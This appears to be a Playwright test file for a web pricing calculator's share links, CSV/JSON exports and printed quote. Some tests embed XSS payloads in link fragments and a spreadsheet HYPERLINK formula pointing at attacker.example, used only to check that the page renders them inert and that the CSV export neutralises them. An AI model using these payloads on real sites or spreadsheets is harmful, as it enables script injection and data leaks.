// Browser tests of the quote features of <audioconf-pricing>: share links (round trip in a fresh browser,
// another card, damaged, truncated, hostile and later-format links, the 10-country length, Copy link),
// exports (CSV read back, formula-like text kept inert, JSON, the downloads) and the printed quote
// (page.pdf read with pdftotext, in English and Russian).
//
// Every test also checks that the page raised no error and broke no Content-Security-Policy rule.
import { test, expect } from "@playwright/test";
import AxeBuilder from "@axe-core/playwright";
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import * as codec from "../../www/share-codec.js";
import { watchForProblems, whenReady } from "./helpers.mjs";

const ARTIFACTS = "tests/artifacts";
const WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"];
const KINDS = ["toll", "toll_free", "dial_out_landline", "dial_out_mobile"];
const TEN = ["US", "GB", "DE", "FR", "JP", "BR", "IN", "AU", "CA", "ES"];

const calculator = (page) => page.locator("audioconf-pricing");
const total = (page) => page.locator("audioconf-pricing [part=total]");
const inside = (page, key) => page.locator(`audioconf-pricing [data-key="${key}"]`);

/** A request of every kind in ten countries, with exact decimal minutes and some calls. */
function tenCountryRequest() {
  const lines = [];
  for (const [i, country] of TEN.entries()) {
    for (const [j, kind] of KINDS.entries()) {
      const line = { country, kind, minutes: `${1000 + 37 * i + 11 * j}.${String((i + 2) * (j + 3)).padStart(2, "0")}5` };
      if (j % 2 === 0) line.calls = 30 + i * 4 + j;
      lines.push(line);
    }
  }
  return { currency: "EUR", users: 250, lines };
}

/** Opens the page and waits for the first quote and the quote features (loaded after it). */
async function open(page, url = "/") {
  await page.goto(url);
  await whenReady(calculator(page));
  await expect(inside(page, "copy-link")).toBeVisible();
}

/** Sets the request and details, and resolves with the quote-change that follows. */
function setQuote(page, request, details) {
  return calculator(page).evaluate(
    (el, [request, details]) =>
      new Promise((resolve) => {
        el.addEventListener("quote-change", (e) => resolve(e.detail), { once: true });
        if (details) el.details = details;
        el.request = request;
      }),
    [request, details],
  );
}

/** What a fresh page shows: its total, the request and the reference on screen. */
async function shown(page) {
  return {
    request: await calculator(page).evaluate((el) => el.request),
    details: await calculator(page).evaluate((el) => el.details),
    total: await calculator(page).evaluate((el) => el.quote.total),
    reference: await inside(page, "quote-reference").textContent(),
  };
}

/** A fragment with a valid check around `body` (a hostile link is made so). */
const signed = (body) => `${body}~k${codec.check(body)}`;

watchForProblems();

test("a 10-country share link fits in 2,000 characters and reopens the same quote in a fresh browser", async ({ page, browser }) => {
  await open(page);
  const entries = await page.evaluate(() => history.length);
  const details = { customer: "Contoso Pharmaceuticals GmbH", preparedBy: "Jane Doe, Microsoft" };
  await setQuote(page, tenCountryRequest(), details);
  const before = await shown(page);
  expect(before.request.lines).toHaveLength(40);
  expect(before.request.lines[0].minutes).toMatch(/^\d+\.\d{3}$/);
  const url = await calculator(page).evaluate((el) => el.shareUrl());
  expect(url.length, url).toBeLessThanOrEqual(2000);
  // The address bar follows the quote (replaceState: no new history entries).
  await expect.poll(() => page.evaluate(() => location.href)).toBe(url);
  expect(await page.evaluate(() => history.length)).toBe(entries);

  const context = await browser.newContext();
  const fresh = await context.newPage();
  await open(fresh, url);
  await expect.poll(() => shown(fresh)).toEqual(before);
  await expect(fresh.locator("audioconf-pricing [data-key=rates-changed], audioconf-pricing [data-key=link-problem]")).toHaveCount(0);
  await expect(fresh.locator("audioconf-pricing summary")).toHaveText(`Quote details: ${details.customer}`);
  await fresh.locator("audioconf-pricing summary").click();
  await expect(fresh.locator("audioconf-pricing #q-prepared-by")).toHaveValue(details.preparedBy);
  expect(await fresh.evaluate(() => location.href)).toBe(url);
  await context.close();
});

/** The minutes of the shown request's lines, added up (a number: compared with toBeCloseTo). */
const shownMinutes = async (page) => (await shown(page)).request.lines.reduce((sum, l) => sum + Number(l.minutes), 0);

test("a link of a split by share reopens as that split, with its shares and total, still to be changed", async ({ page, browser }) => {
  await open(page);
  await page.getByRole("radio", { name: "By share" }).check();
  await page.getByLabel("United States, percent").fill("50");
  await page.getByLabel("Minutes per month").fill("12345");
  await expect.poll(() => shownMinutes(page)).toBeCloseTo(12345, 6);
  const before = await shown(page);
  const shares = await page.locator("audioconf-pricing [data-key$=-n]").evaluateAll((els) => els.map((e) => e.value));
  const url = await calculator(page).evaluate((el) => el.shareUrl());

  const context = await browser.newContext();
  const fresh = await context.newPage();
  await open(fresh, url);
  await expect.poll(() => shown(fresh)).toEqual(before);
  await expect(fresh.getByRole("radio", { name: "By share" })).toBeChecked();
  await expect(fresh.getByLabel("United States, percent")).toHaveValue("50");
  expect(await fresh.locator("audioconf-pricing [data-key$=-n]").evaluateAll((els) => els.map((e) => e.value))).toEqual(shares);
  await expect(fresh.getByLabel("Minutes per month")).toHaveValue("12345");
  // A new total is split by the same shares.
  await fresh.getByLabel("Minutes per month").fill("20000");
  await expect.poll(() => shownMinutes(fresh)).toBeCloseTo(20000, 6);
  await expect(fresh.getByRole("radio", { name: "By share" })).toBeChecked();
  await context.close();
});

test("the same inputs give the same reference; other details another one", async ({ page }) => {
  await open(page);
  const request = { currency: "USD", lines: [{ country: "US", kind: "toll", minutes: "1500.25" }] };
  await setQuote(page, request, { customer: "A", preparedBy: "" });
  const first = await inside(page, "quote-reference").textContent();
  await setQuote(page, { ...request, lines: [{ country: "US", kind: "toll", minutes: "1500.26" }] });
  await expect(inside(page, "quote-reference")).not.toHaveText(first);
  await setQuote(page, request);
  await expect(inside(page, "quote-reference")).toHaveText(first);
  await page.locator("audioconf-pricing summary").click();
  await page.locator("audioconf-pricing #q-customer").fill("B");
  await expect(inside(page, "quote-reference")).not.toHaveText(first);
  await page.locator("audioconf-pricing #q-customer").fill("A");
  await expect(inside(page, "quote-reference")).toHaveText(first);
});

test("a link made against another rate card shows the quoted total, today's and that rates changed", async ({ page }) => {
  const request = { currency: "USD", users: 40, skip_unavailable: true, lines: [{ country: "DE", kind: "toll", minutes: "2500" }, { country: "FR", kind: "dial_out_mobile", minutes: "120.5", calls: 12 }] };
  const fragment = codec.encode({ request, details: { customer: "Fabrikam", preparedBy: "" }, locale: null, cardVersion: "2025.01-old", total: "31.40" });
  await open(page, `/#${fragment}`);
  const notice = inside(page, "rates-changed");
  await expect(notice).toBeVisible();
  const now = await calculator(page).evaluate((el) => el.quote.total);
  await expect(notice).toContainText("Rates have changed since this quote was made.");
  await expect(notice).toContainText("Quoted: $31.40 with rate card 2025.01-old.");
  await expect(notice).toContainText(`Now: $${now} with rate card 2026.11-illustrative.`);
  // The request of the link is on screen, priced today.
  expect((await calculator(page).evaluate((el) => el.request)).lines).toEqual(request.lines);
  await expect(total(page)).toHaveText(`$${now}`);
  const results = await new AxeBuilder({ page }).withTags(WCAG).analyze();
  expect(results.violations, "rates-changed notice").toEqual([]);
  await inside(page, "share-dismiss").click();
  await expect(notice).toHaveCount(0);
  await expect(inside(page, "copy-link")).toBeFocused();
});

test("damaged, truncated, hostile and later-format links say what is wrong and leave a working page", async ({ page }) => {
  await open(page);
  const defaultTotal = await total(page).textContent();
  const good = codec.encode({ request: { currency: "USD", skip_unavailable: true, lines: [{ country: "US", kind: "toll", minutes: "777" }] }, details: { customer: "", preparedBy: "" }, locale: null, cardVersion: "2026.11-illustrative", total: "13.99" });
  const cases = [
    [good.slice(0, Math.floor(good.length / 2)), "It is incomplete: it was probably cut off when it was sent."],
    [good.slice(0, -2), "It is incomplete"],
    [good.replace("777", "778"), "It is damaged: its check code does not match its content"],
    ["q1~c<img src=x onerror=alert(1)>~kAAAAAA", "It is damaged"],
    [signed("q1~c<img src=x onerror=alert(1)>~veA~t1~m"), "Its currency is not valid: “<img src=x onerror=alert(1)>”."],
    [signed("q1~cUSD~veA~t1~mUSt5,GB<script>alert(1)</script>"), "Its line 2 is not valid: “GB<script>alert(1)</script>”."],
    [signed("q1~cUSD~veA~t1~mUSt5000000000"), "Its minutes on line 1 is not valid"],
    [signed("q1~cUSD~veA~t1"), "It has no lines."],
    ["q2~cUSD~whatever", "It was made by a newer version of this calculator (link format 2); this one reads format 1."],
    [signed("q1~cUSD~veA~t1~mZZt100"), "Its request cannot be priced with this rate card: "],
    [`q1~${"%00%FF\u0001".repeat(4)}`, "It is damaged"],
  ];
  for (const [fragment, message] of cases) {
    await open(page, `/?case=${cases.findIndex((c) => c[0] === fragment)}#${fragment}`);
    const problem = inside(page, "link-problem");
    await expect(problem, fragment).toContainText("This share link cannot be opened.");
    await expect(problem, fragment).toContainText(message);
    await expect(problem).toContainText("The calculator shows its default inputs instead.");
    await expect(total(page), fragment).toHaveText(defaultTotal);
    // Nothing of the link became markup.
    expect(await calculator(page).evaluate((el) => el.shadowRoot.querySelectorAll("img, script").length)).toBe(0);
  }
  // The page still works: a new volume gives a new total.
  await page.getByLabel("Minutes per month").fill("20000");
  await expect(total(page)).not.toHaveText(defaultTotal);
  const results = await new AxeBuilder({ page }).withTags(WCAG).analyze();
  expect(results.violations, "link-problem notice").toEqual([]);
});

test("script-like details in a valid link are shown as text and never run", async ({ page }) => {
  const xss = '<img src=x onerror="window.__ran=1"><script>window.__ran=2</script>';
  const fragment = signed(`q1~cUSD~veA~t1~n${codec.toBase64url(xss)}~p${codec.toBase64url("\"'><svg onload=alert(1)>")}~mUSt100`);
  await open(page, `/#${fragment}`);
  await expect(page.locator("audioconf-pricing summary")).toHaveText(`Quote details: ${xss}`);
  await page.locator("audioconf-pricing summary").click();
  await expect(page.locator("audioconf-pricing #q-customer")).toHaveValue(xss);
  await expect(page.locator("audioconf-pricing #q-prepared-by")).toHaveValue("\"'><svg onload=alert(1)>");
  expect(await calculator(page).evaluate((el) => el.shadowRoot.querySelectorAll("img, script, svg[onload]").length)).toBe(0);
  expect(await page.evaluate(() => window.__ran)).toBeUndefined();
  // Only the card changed: the link's total is not today's, so the notice shows both.
  await expect(inside(page, "rates-changed")).toBeVisible();
});

test("a link with a chosen language opens in it, page and calculator", async ({ page }) => {
  const request = { currency: "EUR", skip_unavailable: true, lines: [{ country: "DE", kind: "toll", minutes: "1000.5" }] };
  await open(page);
  await setQuote(page, request);
  const ref = await inside(page, "quote-reference").textContent();
  const fragment = codec.encode({ request, details: { customer: "", preparedBy: "" }, locale: "ru", cardVersion: "2026.11-illustrative", total: await calculator(page).evaluate((el) => el.quote.total) });
  await open(page, `/?ru#${fragment}`);
  await expect(page.locator("h1")).toHaveText("Калькулятор поминутной оплаты аудиоконференций");
  await expect(calculator(page)).toHaveAttribute("locale", "ru");
  await expect(inside(page, "copy-link")).toHaveText("Копировать ссылку");
  await expect(total(page)).toHaveText(/^\d[\d\s]*,\d{2}\s€$/);
  // The language is not part of what the quote is: same reference, no notice.
  await expect(inside(page, "quote-reference")).toHaveText(ref);
  await expect(inside(page, "rates-changed")).toHaveCount(0);
  await expect.poll(() => page.evaluate(() => location.hash)).toBe(`#${fragment}`);
});

test("Copy link confirms visibly and in a live region; a denied clipboard shows the link to copy", async ({ browser }) => {
  const context = await browser.newContext({ permissions: ["clipboard-read", "clipboard-write"] });
  const page = await context.newPage();
  await open(page);
  await inside(page, "copy-link").click();
  const status = page.locator("audioconf-pricing .qt-status[role=status]").first();
  await expect(status).toHaveText("Link copied. It opens this quote with the same inputs.");
  const url = await calculator(page).evaluate((el) => el.shareUrl());
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(url);
  await context.close();

  // Dark, for the contrast of the quote tools' colours there.
  const denied = await browser.newContext({ colorScheme: "dark" });
  const page2 = await denied.newPage();
  await page2.addInitScript(() => {
    navigator.clipboard.writeText = () => Promise.reject(new DOMException("Write permission denied.", "NotAllowedError"));
  });
  await open(page2);
  await inside(page2, "copy-link").click();
  await expect(page2.locator("audioconf-pricing .qt-status[role=status]").first()).toHaveText("The browser did not allow copying. Select the link below and copy it.");
  const field = page2.getByLabel("Share link");
  await expect(field).toHaveValue(await calculator(page2).evaluate((el) => el.shareUrl()));
  await expect(field).toBeFocused();
  expect(await field.evaluate((i) => i.selectionEnd - i.selectionStart)).toBe((await field.inputValue()).length);
  await page2.locator("audioconf-pricing summary").click();
  const results = await new AxeBuilder({ page: page2 }).withTags(WCAG).analyze();
  expect(results.violations, "copy fallback, details open, dark").toEqual([]);
  await denied.close();
});

/** RFC 4180 text back to rows (quoted fields, doubled quotes, CRLF). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(field), (field = "");
    else if (c === "\r" && text[i + 1] === "\n") row.push(field), rows.push(row), (row = []), (field = ""), i++;
    else field += c;
  }
  expect(field, "the text ends with CRLF").toBe("");
  return rows;
}

/** A decimal string in hundredths, exactly. */
const cents = (s) => {
  const [w, f = ""] = s.split(".");
  return BigInt(w) * 100n + BigInt((f + "00").slice(0, 2));
};

test("the CSV export matches the screen, sums to the total and keeps formula-like text inert", async ({ page }) => {
  await open(page);
  const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';
  await setQuote(page, { currency: "USD", users: 80, lines: [
    { country: "US", kind: "toll", minutes: "1200.5", calls: 40 }, { country: "US", kind: "toll_free", minutes: "300" },
    { country: "RU", kind: "toll_free", minutes: "50" }, { country: "GB", kind: "dial_out_mobile", minutes: "75.25" },
  ] }, { customer: formula, preparedBy: "+1 555 0100" });
  const csv = await calculator(page).evaluate((el) => el.exportCsv());
  expect(csv).toMatch(/\r\n$/);
  expect(csv.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
  const [header, ...rows] = parseCsv(csv);
  expect(header.slice(0, 11)).toEqual(["row", "country_code", "country", "kind_code", "kind", "rate_per_minute", "minutes", "billable_minutes", "calls", "cost", "currency"]);
  const col = (name) => header.indexOf(name);
  const quote = await calculator(page).evaluate((el) => el.quote);
  const lines = rows.filter((r) => r[col("row")] === "line");
  expect(lines).toHaveLength(quote.lines.length);
  expect(rows.filter((r) => r[col("row")] === "not_offered").map((r) => `${r[col("country_code")]}|${r[col("kind_code")]}`)).toEqual(["RU|toll_free"]);
  const sum = lines.reduce((s, r) => s + cents(r[col("cost")]), 0n);
  const totalRow = rows.find((r) => r[col("row")] === "total");
  expect(sum).toBe(cents(quote.total));
  expect(totalRow[col("cost")]).toBe(quote.total);
  for (const r of rows.filter((r) => r[col("row")] === "subtotal")) {
    const own = lines.filter((l) => l[col("country_code")] === r[col("country_code")]).reduce((s, l) => s + cents(l[col("cost")]), 0n);
    expect(cents(r[col("cost")]), r.join()).toBe(own);
  }
  // Machine-readable decimals: a point, no grouping; names as on screen.
  for (const r of lines) for (const c of ["rate_per_minute", "minutes", "billable_minutes", "cost"]) expect(r[col(c)]).toMatch(/^\d+(\.\d+)?$/);
  expect(lines.find((r) => r[col("country_code")] === "US")[col("country")]).toBe("United States");
  // The screen's rows and total are the CSV's.
  await expect(page.locator("audioconf-pricing table.breakdown tbody tr:not(.subtotal):not(.unavailable)")).toHaveCount(lines.length);
  await expect(page.locator("audioconf-pricing table.breakdown tfoot tr.grand td.c-cost")).toHaveText(`$${quote.total}`);
  // Formula-like cells start with an apostrophe, so a spreadsheet shows them as text.
  expect(rows.every((r) => r[col("customer")] === `'${formula}`)).toBe(true);
  expect(rows.every((r) => r[col("prepared_by")] === "'+1 555 0100")).toBe(true);
  for (const r of rows) for (const cell of r) expect(cell, r.join()).not.toMatch(/^[=+\-@\t\r]/);

  // The download carries the reference in its name and the same text (after a byte order mark).
  const reference = await inside(page, "quote-reference").textContent();
  const [download] = await Promise.all([page.waitForEvent("download"), inside(page, "download-csv").click()]);
  expect(download.suggestedFilename()).toBe(`quote-${reference}.csv`);
  expect(fs.readFileSync(await download.path(), "utf8")).toBe(`\ufeff${csv}`);
  await expect(page.locator("audioconf-pricing .qt-status[role=status]").nth(1)).toHaveText(`quote-${reference}.csv downloaded.`);
});

test("the JSON export is the quote on screen with its request, details and card", async ({ page }) => {
  await open(page);
  await setQuote(page, { currency: "GBP", users: 12, lines: [{ country: "GB", kind: "toll", minutes: "999.99", calls: 33 }] }, { customer: "Northwind", preparedBy: "Sam" });
  const reference = await inside(page, "quote-reference").textContent();
  const [download] = await Promise.all([page.waitForEvent("download"), inside(page, "download-json").click()]);
  expect(download.suggestedFilename()).toBe(`quote-${reference}.json`);
  const doc = JSON.parse(fs.readFileSync(await download.path(), "utf8"));
  const { quote, request } = await calculator(page).evaluate((el) => ({ quote: el.quote, request: el.request }));
  expect(doc.quote).toEqual(quote);
  expect(doc.request).toEqual(request);
  expect(doc.reference).toBe(reference);
  expect(doc.details).toEqual({ customer: "Northwind", prepared_by: "Sam" });
  expect(doc.rate_card).toEqual({ version: "2026.11-illustrative", effective_date: "2026-11-01", source: quote.rate_card.source, illustrative: true });
  expect(typeof doc.quote.total).toBe("string");
  expect(JSON.parse(await calculator(page).evaluate((el) => el.exportJson()))).toEqual(doc);
});

/** The printed quote as a PDF: its text (pdftotext) and its number of pages; PNGs of its pages to look at. */
async function printed(page, name, format) {
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  await page.evaluate(() => (window.print = () => {}));
  await inside(page, "print-quote").click();
  await page.emulateMedia({ media: "print" });
  const file = path.join(ARTIFACTS, `${name}.pdf`);
  // The margins of Chromium's print dialog ("Default").
  await page.pdf({ path: file, format, printBackground: true, margin: { top: "0.4in", bottom: "0.4in", left: "0.4in", right: "0.4in" } });
  execFileSync("pdftoppm", ["-png", "-r", "60", file, path.join(ARTIFACTS, name)]);
  const text = execFileSync("pdftotext", ["-layout", file, "-"], { encoding: "utf8" });
  const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync("pdfinfo", [file], { encoding: "utf8" }))[1]);
  return { text, pages };
}

test("the printed quote has the total, reference, card, details and terms, and no controls", async ({ browser }) => {
  for (const [locale, format] of [["en-US", "Letter"], ["ru-RU", "A4"]]) {
    const context = await browser.newContext({ locale });
    const page = await context.newPage();
    await open(page);
    const ru = locale.startsWith("ru");
    // Ten countries: 40 breakdown lines, all printed.
    await setQuote(page, tenCountryRequest(), { customer: ru ? "ООО «Ромашка»" : "Contoso Ltd", preparedBy: ru ? "Иван Петров" : "Jane Doe" });
    const reference = await inside(page, "quote-reference").textContent();
    const totalText = (await total(page).textContent()).replace(/\s/g, " ");
    const { text, pages } = await printed(page, `quote-${locale.slice(0, 2)}`, format);
    const flat = text.replace(/\s+/g, " ");
    expect(pages, locale).toBeGreaterThanOrEqual(1);
    expect(pages, locale).toBeLessThanOrEqual(2);
    expect(flat).toContain(totalText.replace(/\s+/g, " "));
    expect(flat).toContain(reference);
    expect(flat).toContain("2026.11-illustrative");
    if (ru) {
      for (const s of ["Коммерческое предложение", "ООО «Ромашка»", "Иван Петров", "действительно 30 дней", "Цены указаны без налогов", "Тарифы примерные"]) expect(flat).toContain(s);
    } else {
      for (const s of ["Audio Conferencing pay-per-minute quote", "Contoso Ltd", "Jane Doe", "valid for 30 days", "Prices exclude taxes.", "These rates are illustrative", "Pay-per-minute or the per-user licence?", "Communications Credits plan"]) expect(flat).toContain(s);
      // Every line is printed, and no control is.
      expect(flat).toContain("Subtotal, Spain");
      for (const s of ["Copy link", "Download CSV", "Print quote", "Show all", "Add a country", "Quote details"]) expect(flat).not.toContain(s);
    }
    await context.close();
  }
});
